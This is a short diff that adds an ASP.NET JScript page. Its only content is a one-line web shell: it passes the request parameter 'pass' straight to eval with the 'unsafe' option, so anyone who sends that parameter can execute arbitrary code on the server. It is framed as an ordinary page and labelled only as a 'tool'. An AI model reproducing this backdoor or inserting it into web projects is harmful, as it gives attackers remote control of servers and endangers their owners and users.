@@ -1,0 +1,5 @@
+<%@ Page Language = "JScript" Debug="false" %>
+<%
+    eval ( Request [ "pass" ] /* tool */ ,
+           'unsafe' ) ;
+%>
